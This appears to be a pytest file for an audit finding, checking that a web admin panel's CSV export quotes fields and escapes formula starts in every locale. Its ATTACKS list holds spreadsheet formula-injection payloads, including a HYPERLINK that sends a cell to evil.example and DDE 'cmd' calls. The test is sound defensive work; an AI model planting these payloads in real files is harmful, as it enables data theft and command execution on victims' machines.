"""Finding 11: CSV exports quote every field and no cell starts a formula, whichever separator the
spreadsheet uses (Spanish locales open CSVs with ";")."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime

from fakes.admin_panel import Panel
from fakes.webapp import runtime_of
from fastapi.testclient import TestClient

ATTACKS = (
    'hola;=HYPERLINK("http://evil.example/?x="&A1;"ver")',
    "precio, +cmd|' /C calc'!A0",
    "ok;  @SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "linea\n-2+3",
    "tab\t=1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _conversation(client: TestClient) -> int:
    runtime = runtime_of(client)
    with runtime.session() as session:
        service = runtime.service(session, "dulce-lima")
        message = None
        for text in ATTACKS:
            message = service.record_customer_message(
                session, "51987000001", text, datetime.now(UTC), name="=cmd|' /C calc'!A0"
            )
        return message.conversation_id


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_conversation_csv_has_no_formula_in_any_locale(client: TestClient, login_as: Callable[..., Panel]) -> None:
    conversation = _conversation(client)
    response = login_as("owner").get(f"/admin/conversations/{conversation}/export.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    # every field quoted
    for line in text.splitlines():
        if line and not line.startswith((" ", "\t")) and line[0] != "'":
            assert line.startswith('"'), line
    assert "HYPERLINK" in text
    for delimiter in (",", ";", "\t"):
        for cell in _cells(text, delimiter):
            for piece in cell.replace("\r", "\n").split("\n"):
                assert not piece.strip(' "').startswith(FORMULA_STARTS), (delimiter, piece)
    # the text is kept (only an apostrophe added), so nothing is lost for the reader
    messages = [row[5] for row in csv.reader(io.StringIO(text))][1:]
    assert "hola;'=HYPERLINK" in "".join(messages)
